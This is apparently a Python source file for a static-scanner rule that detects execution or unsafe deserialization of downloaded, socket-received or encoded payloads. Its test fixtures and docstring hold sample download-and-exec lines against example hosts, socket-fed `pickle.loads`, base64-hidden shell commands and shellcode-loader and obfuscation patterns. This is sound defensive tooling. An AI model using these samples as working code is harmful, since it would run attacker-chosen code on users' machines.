"""DS101 exec-of-untrusted-payload: code execution or unsafe deserialization of fetched, received or decoded data."""

from __future__ import annotations

import re

from datasec_scan.lazycst import cst

from datasec_scan import fallback
from datasec_scan.model import Category, Confidence, Severity
from datasec_scan.rule import Example, Rule
from datasec_scan.semantics.constants import fold_str
from datasec_scan.semantics.names import COMPUTED

from . import _prescreen as ps
from ._credentials import in_test_path
from ._remote import (
    CODE_SINKS,
    DECODED,
    DECODERS,
    DESER_SINKS,
    DOWNLOAD_EXEC_COMMANDS,
    ENV,
    FILE,
    LABEL_TEXT,
    NETWORK,
    REVERSE_SHELL_COMMANDS,
    RUNS_ITS_ARGUMENTS,
    SOCKET,
    USER,
    Analyzer,
    code_of,
    keyword,
    match_command,
    positional,
    python_payload,
    shell_decoded,
    snippet,
)

_SEVERITY = {NETWORK: Severity.CRITICAL, SOCKET: Severity.CRITICAL, DECODED: Severity.HIGH, ENV: Severity.MEDIUM,
             FILE: Severity.LOW, USER: Severity.LOW}
_CONFIDENCE = {NETWORK: Confidence.HIGH, SOCKET: Confidence.HIGH, DECODED: Confidence.MEDIUM, ENV: Confidence.MEDIUM,
               FILE: Confidence.LOW, USER: Confidence.LOW}
_HIDING = {"concat"}  # a plain concatenation of readable strings hides nothing
_SERIALIZERS = {"pickle", "cPickle", "_pickle", "marshal", "dill", "cloudpickle", "copy", "joblib"}
_EXECUTABLE_MEMORY = ("VirtualAlloc", "PAGE_EXECUTE", "0x40", "PROT_EXEC", "CreateThread", "mmap.mmap(-1")
# Copies into memory, with the argument holding the bytes. A buffer made from the bytes (`create_string_buffer`)
# is everyday ctypes code, so it counts only beside memory made executable *and* a jump into it.
_SHELLCODE_COPIES = {"RtlMoveMemory": 1, "memmove": 1, "RtlCopyMemory": 1, "create_string_buffer": 0}
_MADE_EXECUTABLE = ("VirtualAlloc", "VirtualProtect", "PAGE_EXECUTE", "PROT_EXEC", "mprotect")
_JUMPED_INTO = ("CFUNCTYPE", "WINFUNCTYPE", "CreateThread")
_PATH_BUILDERS = frozenset({"os.path.join", "posixpath.join", "ntpath.join", "pathlib.Path", "pathlib.PurePath",
                            "pathlib.Path().joinpath", "os.path.abspath", "os.path.dirname"})
# Programs that run what their arguments say (shells, interpreters, launchers); a fixed program not among them
# (`["yt-dlp", url]`, `["ffmpeg", "-i", url]`) is given fetched data as its input, not as a command to run.
# A YAML tag that makes an unsafe loader call a Python callable (`!!python/object/apply:os.system`, also written as
# the full `tag:yaml.org,2002:python/object/new:` form).
_YAML_PYTHON_CALL = re.compile(r"python/object/(?:apply|new):([\w.]+)")
_MAX_COMMAND_STEPS = 12  # fetch -> variables -> a helper or two -> spawn; longer trips are incidental data
# Decoders that hide text (not `codecs.decode(b, "utf-8")` or `reversed`): code a file or variable holds in one of
# these forms was encoded so that a reader of the package would not see it.
_HIDING_DECODERS = frozenset(q for q, step in DECODERS.items() if step not in ("codecs", "reverse"))
_ENCODERS = frozenset({"zlib.compress", "bz2.compress", "lzma.compress", "gzip.compress", "base64.b64encode",
                       "base64.urlsafe_b64encode", "base64.b85encode", "base64.b32encode", "base64.encodebytes",
                       "binascii.hexlify", "binascii.b2a_base64", "codecs.encode"})
_RISKY_FILES = ("setup.py", "__init__.py", "sitecustomize.py", "usercustomize.py", "conftest.py")

# Pre-screen (a necessary condition for any report, see rules/_prescreen.py):
# - an exec/deserialize sink (`visit_Call` -> `_check`, the only caller of scan_nested), or
# - a spawner (`_check_spawn`), or
# - `RtlMoveMemory`/`memmove`/`RtlCopyMemory`/`create_string_buffer` as written, with one of _EXECUTABLE_MEMORY
#   (`_check_shellcode`), or
# - what the reduced scan (`fallback.exec_of_payload`) needs: a call whose last name part is an exec sink, with a
#   decoder/fetcher call in the file (ast level), or `exec(`-like text followed by a payload word (regex level).
_FALLBACK_PAYLOAD = ("b64decode", "b32decode", "b16decode", "b85decode", "a85decode", "decodebytes", "decodestring",
                     "standard_b64decode", "urlsafe_b64decode", "decompress", "unhexlify", "a2b_base64", "a2b_hex",
                     "fromhex", "loads", "load", "decrypt", "urlopen", "urlretrieve", "recv", "recvfrom", "recv_into",
                     "getresponse", "DownloadString")
_FALLBACK_NET_MODULES = ("requests", "httpx", "urllib", "http", "socket", "aiohttp", "ftplib", "smtplib", "urllib3",
                         "telnetlib")
_APPLIES = ps.any_of(
    ps.EXEC_SINK,
    ps.SPAWN,
    ps.word("__pyarmor__"),  # `__pyarmor__(__name__, __file__, b"...")`, as written
    ps.all_of(ps.word(*_SHELLCODE_COPIES), ps.regex("|".join(map(re.escape, _EXECUTABLE_MEMORY)))),
    ps.all_of(ps.word("exec", "eval", "compile", "execfile", "FunctionType", "runsource", "run_path"),
              ps.any_of(ps.word(*_FALLBACK_PAYLOAD),
                        ps.all_of(ps.word("get", "post", "request", "text", "content"), ps.word(*_FALLBACK_NET_MODULES)),
                        ps.all_of(ps.word("read"),  # `x.read()` with a fetcher anywhere in its dotted name
                                  ps.regex("urlopen|urlretrieve|recv|getresponse|DownloadString")),
                        lambda v: v.search(fallback._PAYLOAD_WORD))),  # the regex level's own words
)


_OPAQUE_TEXT = 120  # characters of a string literal
_OPAQUE_NUMBERS = 64  # integers in a list or tuple literal
_DIGIT_CODES = re.compile(r"\d+(?:[/,;:|.\- ]\d+){30,}")  # "8936/8940/8943/...": character codes as text


def _opaque(expr: cst.BaseExpression) -> bool:
    """A long literal that is not text a person would write: a list/tuple of many integers, character codes written
    as text, or a string without whitespace (code and prose have it) that is not a URL or a path."""
    if isinstance(expr, (cst.List, cst.Tuple)):
        return len(expr.elements) >= _OPAQUE_NUMBERS and all(isinstance(e.value, cst.Integer) for e in expr.elements)
    if not isinstance(expr, (cst.SimpleString, cst.ConcatenatedString)):
        return False
    value = fold_str(expr)
    if value is None or len(value) < _OPAQUE_TEXT:
        return False
    if _DIGIT_CODES.fullmatch(value):
        return True
    if sum(1 for c in value if c < " " and c not in "\t\n\r" or "\x7f" <= c < "\xa0") * 10 >= len(value):
        return True  # control characters throughout: bytes XOR-ed or shifted out of readable text
    return not any(c.isspace() for c in value) and "://" not in value and value.count("/") * 4 < len(value)


def _describe(literal: cst.BaseExpression) -> str:
    if isinstance(literal, (cst.List, cst.Tuple)):
        return f"{len(literal.elements)}-number"
    value = fold_str(literal) or ""
    return f"{len(value)}-character"


class ExecOfUntrustedPayload(ps.CodeScreen, Rule):
    """Code execution or unsafe deserialization of data fetched from the network or hidden in an encoded literal.

    ## What it does
    Finds `exec`, `eval`, `compile`, `runpy.run_path`, `types.FunctionType`, `pickle.loads`,
    `marshal.loads`, `dill`/`cloudpickle`/`joblib` loads and `yaml.load` with an unsafe loader,
    and asks where their argument comes from; also shell and process spawners whose command is
    fetched from the network (critical; not an argument list whose program is written in the code
    and does not run its arguments, `["yt-dlp", url]`) or decoded from a hidden literal (high), and code encrypted
    with PyArmor (`__pyarmor__(..., b"...")`, medium: it cannot be reviewed). A shell command that
    decodes base64 and pipes it into a shell or interpreter (`echo <base64> | base64 -d | bash`) is
    high, critical when the hidden command is a reverse shell or a download that runs; so is a
    command decoded in Python whose text is one. The code of
    `python -c CODE` (the interpreter named or `sys.executable`) is judged like an `exec` of it,
    and fetched or decoded bytes copied with `RtlMoveMemory`/`memmove` into memory the file
    allocates executable, or put in a `ctypes.create_string_buffer` the file makes executable
    (`VirtualProtect`, `mprotect`) and calls (`CFUNCTYPE`), are a shellcode loader. (Commands read from a socket are DS102/DS103,
    request data DS109.) The severity follows that provenance:

    - data fetched with `requests`, `httpx`, `urllib`, `http.client`, `aiohttp`, read from a
      socket or a DNS TXT record, the text of a chat bot's incoming message (`message.content` in a
      module importing discord.py, a Telegram or Slack bot library; `ctx.message.content` or the
      arguments of a `@bot.command()`), what a Socket.IO server sends to a client's event handler
      (`@sio.event`, `@sio.on("cmd")`), or bytes read through
      `io.BytesIO` from any of these (an image fetched and decoded): **critical**;
    - a literal the code decodes first (base64/32/85, hex, zlib/gzip/bz2/lzma, rot13, reversal,
      `chr`-joins, `\\x` escapes, XOR loops, Fernet with a literal key): **high**; the decoded
      payload is parsed and scanned, and what it does is reported at the literal; and so is text the
      module reads from its own source (`inspect.getsource(sys.modules[__name__])`,
      `open(__file__).read()`: a payload kept in a comment or docstring);
    - an environment variable: **medium**; a local file or command-line input: **low**; but code
      from a file or environment variable that is base64/hex/zlib-decoded on its way to `exec`
      (a payload shipped encoded in a data file of the package): **high**;
    - code built at run time by the module's own functions or classes from a long opaque literal
      (64+ integers, character codes written as text, 120+ characters without whitespace) through
      steps the scanner cannot decode, as class-based obfuscators do: **high**, medium confidence;
    - code the scanner cannot show, run by a sink named through a string the module computes
      (`getattr(builtins, "cexe"[::-1])(blob)`; a plain `getattr(builtins, "exec")` is not hidden):
      **high**, medium confidence;
    - a constant: nothing (`exec("1+1")` is not a backdoor).

    Names are resolved through aliases and dynamic tricks (`getattr(builtins, 'ex'+'ec')`,
    `__import__('marshal').loads`, `globals()['eval']`, a one-expression helper that returns the
    sink, `pick('cexe')`), and data is followed through variables and helper functions of the same
    module; a decoder in a helper or a lambda (`unpack = lambda s: b64decode(s)`) is decoded with
    the literal its caller passes. A sink started as a thread or process target, registered with
    `atexit` or bound to its payload by `functools.partial(exec, code)` runs that payload.

    ## Why is this bad?
    Executing what a server sends turns every machine running the package into a remote-controlled
    agent of whoever controls that server (or its DNS). Encoding the executed code hides it from
    review, which legitimate code has no reason to do. `pickle`, `marshal` and unsafe YAML run code
    chosen by whoever wrote the bytes.

    ## Example
    ```python
    import base64, requests, zlib
    exec(requests.get("https://example.com/stage2").text)
    exec(zlib.decompress(base64.b64decode("eJzLzE3NVSguLikqTU4FABbkBBc=")))
    ```

    ## How to fix
    Do not execute downloaded or encoded code. Ship the code in the package, in the clear; parse
    data with `json` or `yaml.safe_load`; use `ast.literal_eval` for Python literals.

    ## References
    - CWE-94: Improper Control of Generation of Code ('Code Injection')
    - CWE-502: Deserialization of Untrusted Data
    - CWE-506: Embedded Malicious Code
    - MITRE ATT&CK T1059.006 (Python), T1027 (Obfuscated Files or Information), T1105 (Ingress Tool Transfer)
    """

    code = "DS101"
    name = "exec-of-untrusted-payload"
    category = Category.REMOTE_ACCESS
    severity = Severity.HIGH
    confidence = Confidence.MEDIUM
    cwe = (94, 502, 506)
    attack = ("T1059.006", "T1027", "T1105")
    screen = staticmethod(_APPLIES)
    VALID = (
        "exec('x = 1 + 1')\n",
        "import ast\nvalue = ast.literal_eval(text)\n",
        "import yaml\ncfg = yaml.safe_load(open('cfg.yml'))\n",
        "import json, requests\ndata = json.loads(requests.get('https://example.com/x').text)\n",
        "import functools, requests\nshow = functools.partial(print, requests.get('https://example.com/x').text)\n",
        "import builtins\ndef load(blob):\n    getattr(builtins, 'exec')(blob)\n",
        "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import sys; print(sys.version)'])\n",
        "import ctypes, socket\ns = socket.create_connection(('example.com', 80))\n"
        "buf = ctypes.create_string_buffer(s.recv(64))\nflags = buf.raw[0] & 0x40\n",
    )
    INVALID = (
        "import requests\nexec(requests.get('https://example.com/p').text)\n",
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\n",
        "import socket, pickle\ns = socket.create_connection(('203.0.113.5', 4444))\nobj = pickle.loads(s.recv(65536))\n",
        "import urllib.request, marshal, types\n"
        "f = types.FunctionType(marshal.loads(urllib.request.urlopen('https://example.com/c').read()), {})\n",
        Example("import os\neval(os.environ['HOOK'])\n"),
        "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "
        "\"import urllib.request as u; exec(u.urlopen('https://example.com/s').read())\"])\n",
        "import base64, zlib\ndef unpack(b):\n    return zlib.decompress(base64.b64decode(b[::-1]))\n"
        "exec(unpack(b'==w0IE0gAIA5XHFTPDV1NnkLs46KW/iym/CyRpyLI3CzLzJe'))\n",
        "import functools, requests\nrun = functools.partial(exec, requests.get('https://example.com/p').text)\n",
        "import builtins\ndef load(blob):\n    getattr(builtins, 'lave'[::-1])(blob)\n",
        "class K:\n    def __init__(self, d):\n        self.d = d\n    def __call__(self):\n        return bytes(self.d)\n"
        "exec(K([" + ", ".join(["105"] * 64) + "])().decode())\n",
    )

    @classmethod
    def triggered_by(cls, text: str) -> bool:
        """A sink this rule resolves (exec, a deserializer, a spawner, a shellcode copy), or what its fallback needs."""
        return ps.memo(cls.code, text, cls.screen)

    @classmethod
    def fallback(cls, tree, text, context):  # type: ignore[override]
        """Reduced scan when libcst cannot parse the file (the engine marks these findings `fallback`)."""
        yield from fallback.exec_of_payload(tree, text)

    def __init__(self, context) -> None:
        super().__init__(context)
        self._handled: set[int] = set()

    def visit_Call(self, node: cst.Call) -> None:
        if id(node) in self._handled:
            return
        an = Analyzer.of(self.context)
        if self._check_pyarmor(node):
            return
        sink = an.exec_sink(node)
        if sink is None:
            if not self._check_shellcode(node, an):
                self._check_spawn(node, an)
            return
        kind, qualified, arg = sink
        # exec(compile(src)), types.FunctionType(marshal.loads(b)): one finding, at the outer call, about the inner data.
        while isinstance(arg, cst.Call):
            inner = an.exec_sink(arg)
            if inner is None:
                break
            self._handled.add(id(arg))
            if inner[0] == "deserialize":
                kind = "deserialize"
                qualified = f"{qualified}({inner[1]})"
            arg = inner[2]
        self._check(node, kind, qualified, arg, an)

    def _yaml_call(self, node: cst.Call, sink: str, document: cst.BaseExpression, an: Analyzer) -> bool:
        """A literal YAML document loaded with an unsafe loader whose `!!python/object/apply:` (or `/new:`) tag
        calls something when it is loaded: code hidden in configuration data."""
        text = fold_str(document, an.names)
        found = _YAML_PYTHON_CALL.search(text) if text else None
        if found is None:
            return False
        what = match_command(text, DOWNLOAD_EXEC_COMMANDS) or match_command(text, REVERSE_SHELL_COMMANDS)
        shown, secrets = snippet(text[found.start():found.start() + 200])
        self.report(node, f"{sink} of a literal YAML document whose `{found.group(0)}` tag calls "
                    f"`{found.group(1)}` when it is loaded" + (f" ({what})" if what else "") + f": `{shown}`",
                    severity=Severity.CRITICAL if what else Severity.HIGH, confidence=Confidence.HIGH,
                    secrets=secrets, flow=((document, "YAML document with a call tag"), (node, f"sink: {sink}")))
        return True

    def _check_pyarmor(self, node: cst.Call) -> bool:
        """`__pyarmor__(__name__, __file__, b"PY...")`: the PyArmor runtime decrypts and runs a code object that
        nobody can read; reported at medium, since commercial code is protected the same way."""
        func = node.func
        called = func.value if isinstance(func, cst.Name) else func.attr.value if isinstance(func, cst.Attribute) else ""
        if called != "__pyarmor__":
            return False
        blob = next((a.value for a in node.args if isinstance(a.value, cst.SimpleString)
                     and a.value.prefix.lower().startswith("b")), None)
        if blob is None:
            return False
        self.report(node, f"runs PyArmor-encrypted code ({len(blob.value):,} characters of literal): what it does "
                    "cannot be read or reviewed", severity=Severity.MEDIUM, confidence=Confidence.HIGH)
        return True

    @staticmethod
    def _native_function(func: cst.BaseExpression, an: Analyzer) -> str | None:
        """The name a ctypes function is called by: `k.RtlMoveMemory`, or `move` bound to
        `getattr(k, "Rtl" + "Move" + "Memory")` (a name assembled so that it is not written out)."""
        if isinstance(func, cst.Attribute):
            return func.attr.value
        if not isinstance(func, cst.Name):
            return None
        bound = an.names.single_value(func.value)
        if isinstance(bound, cst.Call) and len(bound.args) >= 2 and "builtins.getattr" in an.call_names(bound):
            return fold_str(bound.args[1].value, an.names)
        return None

    def _check_shellcode(self, node: cst.Call, an: Analyzer) -> bool:
        """Fetched or decoded bytes copied into memory the code allocated executable: a shellcode loader."""
        called = self._native_function(node.func, an)
        if called not in _SHELLCODE_COPIES:
            return False
        text = self.context.text
        if not any(m in text for m in _EXECUTABLE_MEMORY):
            return False
        at = _SHELLCODE_COPIES[called]
        if at == 0 and not (any(m in text for m in _MADE_EXECUTABLE) and any(m in text for m in _JUMPED_INTO)):
            return False
        args = positional(node)
        if len(args) <= at:
            return False
        sources = an.sources(args[at], want=(NETWORK, SOCKET, DECODED))
        label = next((lab for lab in (NETWORK, SOCKET, DECODED) if lab in sources), None)
        if label is None:
            return False
        self.report(node, f"{code_of(node.func, 40)} copies {LABEL_TEXT[label]} into executable memory "
                    "(a shellcode loader)", severity=Severity.CRITICAL if label != DECODED else Severity.HIGH,
                    confidence=Confidence.HIGH, flow=sources[label].steps + ((node, "copied into executable memory"),))
        return True

    def _check_spawn(self, node: cst.Call, an: Analyzer) -> None:
        """A shell or program whose command line is fetched from the network or decoded from a hidden literal."""
        spawn = an.spawn(node)
        if spawn is None:
            return
        args = positional(node)
        command = args[0] if args else keyword(node, "args") or keyword(node, "cmd") or keyword(node, "command")
        if command is None:
            return
        inline = self._inline_python(command, an)
        if inline is not None:  # `python -c "<code>"`: the code is executed as surely as by exec
            self._check(node, "code", f"{spawn[1]}(python -c)", inline, an)
            return
        if self._check_shell_decoded(node, spawn[1], an):
            return
        sources = an.sources(command, want=(NETWORK, DECODED))
        parts = [e.value for e in command.elements] if isinstance(command, (cst.List, cst.Tuple)) else [command]
        decoded = [p for p in (an.decoded(part) for part in parts) if p is not None and p.layers]
        peeled = decoded[0] if decoded else an.decoded(command)
        hidden = peeled is not None and bool(set(peeled.layers) - _HIDING - {"escapes"})
        if NETWORK in sources and not self._incidental(sources[NETWORK].steps, an) and not (
                spawn[0] == "argv" and (self._fixed_program(command, an) or self._into_fixed_argv(
                    sources[NETWORK].steps, an))):
            label, severity, confidence = NETWORK, Severity.CRITICAL, Confidence.HIGH
            message = f"{spawn[1]} runs a command {LABEL_TEXT[NETWORK]}"
        elif hidden or DECODED in sources:
            label, severity, confidence = DECODED, Severity.HIGH, Confidence.HIGH
            if peeled is None and DECODED in sources:  # decoded in a helper the literal is passed to
                start = sources[DECODED].steps[0][0]
                peeled = an.decoded_call(start) if isinstance(start, cst.Call) else None
            text = peeled.text if peeled is not None else None
            shown, secrets = snippet(text) if text else ("", ())
            what = text and (match_command(text, REVERSE_SHELL_COMMANDS) or match_command(text, DOWNLOAD_EXEC_COMMANDS))
            if what:
                severity = Severity.CRITICAL
            message = f"{spawn[1]} runs a command hidden by {peeled.how if peeled else 'encoding'}" + (
                f" ({what})" if what else "") + (f": `{shown}`" if shown else "")
            self.report(node, message, severity=severity, confidence=confidence, secrets=secrets,
                        flow=((an.payload_literal(command), "hidden command"), (node, f"sink: {spawn[1]}")))
            return
        else:
            return
        self.report(node, message, severity=severity, confidence=confidence,
                    flow=sources[label].steps + ((node, f"sink: {spawn[1]}"),))

    def _check_shell_decoded(self, node: cst.Call, spawner: str, an: Analyzer) -> bool:
        """`os.system("echo <base64> | base64 -d | bash")`: a command hidden in base64 that the shell decodes and
        runs; critical when the hidden command is itself a reverse shell or a download that runs."""
        text = an.command_text(node)
        found = shell_decoded(text) if text and "base64" in text else None
        if found is None:
            return False
        decoded, program = found
        what = decoded and (match_command(decoded, REVERSE_SHELL_COMMANDS)
                            or match_command(decoded, DOWNLOAD_EXEC_COMMANDS))
        shown, secrets = snippet(decoded) if decoded else ("base64 text built at run time", ())
        message = (f"{spawner} runs a command hidden in base64, decoded by the shell and piped into {program}"
                   + (f" ({what})" if what else "") + f": `{shown}`")
        self.report(node, message, severity=Severity.CRITICAL if what else Severity.HIGH,
                    confidence=Confidence.HIGH, secrets=secrets,
                    flow=((node, f"hidden command: `{shown}`"), (node, f"sink: {spawner}")))
        return True

    @staticmethod
    def _fixed_program(command: cst.BaseExpression, an: Analyzer) -> bool:
        """An argument list whose program is written in the code and does not run its arguments as commands."""
        if not isinstance(command, (cst.List, cst.Tuple)) or not command.elements or not isinstance(
                command.elements[0], cst.Element):
            return False
        program = fold_str(command.elements[0].value, an.names)
        if not program:
            return False
        name = program.replace("\\", "/").rsplit("/", 1)[-1].lower().removesuffix(".exe")
        return name.rstrip("0123456789.") not in RUNS_ITS_ARGUMENTS

    def _into_fixed_argv(self, steps: tuple[tuple[cst.CSTNode, str], ...], an: Analyzer) -> bool:
        """The data was handed to a helper inside an argument list whose program is written out and does not run
        its arguments (`run(["git", "commit", "-m", f"Bump to {sha}"])`, where `run` spawns its parameter)."""
        for node, what in steps:
            if isinstance(node, cst.Call) and what.startswith("passed to") and any(
                    isinstance(a.value, (cst.List, cst.Tuple)) and self._fixed_program(a.value, an) for a in node.args):
                return True
        return False

    @staticmethod
    def _incidental(steps: tuple[tuple[cst.CSTNode, str], ...], an: Analyzer) -> bool:
        """Fetched data that ends up in a command only as a path part or after a long trip through the program
        (a version string from a release index naming an install folder): not a command someone sent."""
        if len(steps) > _MAX_COMMAND_STEPS:
            return True
        for node, _ in steps:
            if isinstance(node, cst.Call) and an.call_names(node) & _PATH_BUILDERS:
                return True
            if isinstance(node, cst.BinaryOperation) and isinstance(node.operator, cst.Divide):
                return True
        return False

    @staticmethod
    def _inline_python(command: cst.BaseExpression, an: Analyzer) -> cst.BaseExpression | None:
        """The code argument of an argv `[python, ..., "-c", CODE]` (the interpreter named or `sys.executable`)."""
        if isinstance(command, cst.Name):
            command = an.names.single_value(command.value) or command
        if not isinstance(command, (cst.List, cst.Tuple)) or len(command.elements) < 3 or not all(
                isinstance(e, cst.Element) for e in command.elements):
            return None  # (`[*base, *args]`: which element is the program is not known)
        values = [e.value for e in command.elements]
        program = fold_str(values[0], an.names)
        if program is not None:
            base = program.replace("\\", "/").rsplit("/", 1)[-1].lower()
            if not base.startswith(("python", "pythonw", "py.exe")) and base != "py":
                return None
        elif not any(q.startswith(("sys.executable", "sys._base_executable"))
                     for q in an.names.qualified_names(values[0])):
            return None
        for i, value in enumerate(values[1:-1], start=1):
            flag = fold_str(value, an.names)
            if flag == "-c":
                return values[i + 1]
            if flag is None or not flag.startswith("-"):
                return None  # `python script.py -c x`: the -c belongs to the script
        return None

    @staticmethod
    def _computed_sink(node: cst.Call, an: Analyzer) -> cst.BaseExpression | None:
        """`getattr(builtins, "cexe"[::-1])(x)`, `partial(vars(builtins)[_k("val")], x)`: the expression naming a code
        sink through a string the module computes, if any. Code that means to run something names `exec`."""
        sink = node.func
        if an.call_names(node).isdisjoint(CODE_SINKS):
            started = an.started(node)
            if started is None:
                return None
            sink = started[0]
        names = an.names.qualified_names(sink)
        return sink if any(COMPUTED + name in names for name in CODE_SINKS & names) else None

    def _check_opaque(self, node: cst.Call, sink: str, arg: cst.BaseExpression, an: Analyzer) -> None:
        """`exec(Kramer("8936/8940/...", 8831)())`: code built at run time, by functions or classes of the module, from
        a long literal that is not text (digits, base64-like, a list of byte values). No decoder the scanner knows is
        in the way, so the code cannot be shown, but nothing else builds what it runs from such a literal."""
        literal = self._opaque_origin(arg, an, 0, set())
        if literal is None:
            return
        self.report(node, f"{sink} runs code built at run time from an opaque {_describe(literal)} literal "
                    f"(an obfuscator's payload)", severity=Severity.HIGH, confidence=Confidence.MEDIUM,
                    flow=((literal, "opaque literal"), (node, f"sink: {sink}")))

    def _opaque_origin(self, expr: cst.BaseExpression | None, an: Analyzer, depth: int, seen: set[str]
                       ) -> cst.BaseExpression | None:
        """An opaque literal the expression is computed from: through calls (their receiver and arguments), method
        calls, subscripts and names bound once."""
        if expr is None or depth > 8:
            return None
        if _opaque(expr):
            return expr
        d = depth + 1
        if isinstance(expr, cst.Name):
            if expr.value in seen:
                return None
            seen.add(expr.value)
            found = self._opaque_origin(an.names.single_value(expr.value), an, d, seen)
            if found is not None:
                return found
            flow = an.flow()  # `out = ""` then `out += chr(ord(blob[i]) ^ k)` in a loop: built from `blob`; and
            # for a parameter, what the call sites pass (`Kramer(_data="7436/7440/...")` into `__init__`)
            values = (*flow.bound_values(expr), *flow.values_of(expr)) if flow is not None else ()
            for value in values:
                found = self._opaque_origin(value, an, d, seen)
                if found is not None:
                    return found
            return None
        if isinstance(expr, cst.BinaryOperation):
            return self._opaque_origin(expr.left, an, d, seen) or self._opaque_origin(expr.right, an, d, seen)
        if isinstance(expr, cst.Attribute) and an.names.class_attribute(expr) is not None:
            return self._opaque_origin(an.names.class_attribute(expr), an, d, seen)  # `cls._BLOB`
        if isinstance(expr, (cst.Attribute, cst.Subscript)):
            return self._opaque_origin(expr.value, an, d, seen)
        if isinstance(expr, cst.Call):
            for part in (expr.func, *(a.value for a in expr.args)):
                found = self._opaque_origin(part, an, d, seen)
                if found is not None:
                    return found
        return None

    @staticmethod
    def _decoded_on_the_way(source: object, an: Analyzer) -> str | None:
        """The base64/hex/zlib-like decoder data passes through between its source and the sink, if any. Not when it
        is unmarshalled or unpickled on the way: then the encoding carries serialized objects between processes (as
        PyInstaller's isolated child reads functions from a pipe), it does not hide text."""
        found: set[str] = set()
        for node, _ in getattr(source, "steps", ()):
            if isinstance(node, cst.Call):
                names = an.call_names(node)
                if names & DESER_SINKS or names & _ENCODERS:
                    return None  # (encoded by this program on the way: a cache's compress/decompress round trip)
                found |= names & _HIDING_DECODERS
        return min(found) if found else None

    @staticmethod
    def _round_trip(arg: cst.BaseExpression, an: Analyzer) -> bool:
        """`pickle.loads(pickle.dumps(x))`: bytes this process just produced are not someone else's payload."""
        value = arg
        if isinstance(value, cst.Name):
            value = an.names.single_value(value.value) or value
        return isinstance(value, cst.Call) and any(q.endswith((".dumps", ".dump", "copy.deepcopy")) and q.split(".")[0] in
                                                   _SERIALIZERS for q in an.call_names(value))

    def _check(self, node: cst.Call, kind: str, qualified: str, arg: cst.BaseExpression, an: Analyzer) -> None:
        sink = qualified.replace("builtins.", "")
        if kind == "deserialize" and self._round_trip(arg, an):
            return
        sources = {label: src for label, src in an.sources(arg, want=_SEVERITY).items() if label in _SEVERITY}
        peeled = an.decoded(arg)
        payload = python_payload(peeled, an.context.limits.max_decoded_bytes if an.context.limits else 1_000_000)
        hidden = peeled is not None and bool(set(peeled.layers) - _HIDING) and not peeled.limited
        nested = 0
        if kind == "code" and payload is not None and peeled is not None:
            anchor = an.payload_literal(arg)
            nested = self.context.scan_nested(payload, anchor, peeled.how if peeled.layers else "string literal")
        elif peeled is not None and peeled.limited:
            hidden = True
        if hidden and DECODED not in sources:
            sources[DECODED] = None  # type: ignore[assignment]
        if not sources and kind == "deserialize" and peeled is not None and "marshal" in qualified:
            sources[DECODED] = None  # type: ignore[assignment]  # marshal of a literal: hidden code objects
        if not sources and kind == "deserialize" and "yaml" in qualified and self._yaml_call(node, sink, arg, an):
            return
        if not sources:
            computed = self._computed_sink(node, an) if kind == "code" and payload is None else None
            if computed is not None:
                self.report(node, f"{sink} reached through a name the code computes (`{code_of(computed, 60)}`) runs "
                            f"`{code_of(arg, 60)}`: the sink is hidden, and so is what it runs", severity=Severity.HIGH,
                            confidence=Confidence.MEDIUM,
                            flow=((computed, "sink name computed"), (node, f"sink: {sink}")))
            elif kind == "code" and not nested:
                self._check_opaque(node, sink, arg, an)
            return
        label = max(sources, key=lambda lab: (_SEVERITY[lab], lab))
        severity, confidence = _SEVERITY[label], _CONFIDENCE[label]
        decoder = self._decoded_on_the_way(sources[label], an) if kind == "code" and label in (FILE, ENV) else None
        secrets: tuple[str, ...] = ()
        if label == DECODED and peeled is not None:
            if kind == "code":
                if payload is None and peeled.limited and not peeled.data:
                    message = f"{sink} of an encoded payload too large to decode here ({peeled.limited})"
                elif payload is None:
                    shown = f"{len(peeled.data)} bytes" + (f", {peeled.limited}" if peeled.limited else "")
                    message = f"{sink} of a payload decoded from {peeled.how} ({shown})"
                else:
                    text, secrets = snippet(payload)
                    message = f"{sink} of Python code hidden by {peeled.how}: `{text}`"
                    confidence = Confidence.HIGH
            else:
                message = f"{sink} of a {len(peeled.data)}-byte literal payload" + (
                    f" decoded from {peeled.how}" if peeled.layers else "") + "; loading it runs the code it carries"
                confidence = Confidence.HIGH if "marshal" in qualified else Confidence.MEDIUM
        elif decoder is not None:
            severity, confidence = Severity.HIGH, Confidence.MEDIUM
            message = f"{sink} runs code hidden in {LABEL_TEXT[label]}, decoded by `{decoder}`"
        else:
            message = f"{sink} runs {LABEL_TEXT[label]}"
            start = sources[label].steps[0][0] if sources.get(label) is not None and sources[label].steps else None
            if label == DECODED and isinstance(start, cst.Call) and any(
                    q.endswith(".reveal") for q in an.call_names(start)):
                message = f"{sink} runs text hidden in an image (`{code_of(start.func, 30)}`, steganography)"
            elif label == DECODED and isinstance(start, cst.Call) and an.own_source(start):
                message = (f"{sink} runs text the module reads from its own source (`{code_of(start, 40)}`): a "
                           "payload kept in a comment or docstring")
            if kind == "deserialize":
                message = f"{sink} deserializes {LABEL_TEXT[label]}; loading it runs code chosen by its author"
        others = sorted(set(sources) - {label}, key=lambda lab: -_SEVERITY[lab])
        if others:
            message += " (also: " + ", ".join(LABEL_TEXT[o] for o in others) + ")"
        if nested:
            message += f"; the payload itself has {nested} finding{'s' if nested != 1 else ''}"
        if severity >= Severity.HIGH and (nested or self.context.filename in _RISKY_FILES or len(sources) > 1):
            confidence = Confidence.HIGH
        if label == DECODED and severity > Severity.MEDIUM and not nested and in_test_path(self.context.path):
            severity, message = Severity.MEDIUM, message + " (in test code)"  # a test of a decoder, a sandbox...
        src = sources[label]
        flow = (src.steps if src is not None else ((an.payload_literal(arg), f"payload: `{code_of(arg)}`"),))
        self.report(node, message, severity=severity, confidence=confidence,
                    flow=flow + ((node, f"sink: {sink}"),), secrets=secrets)
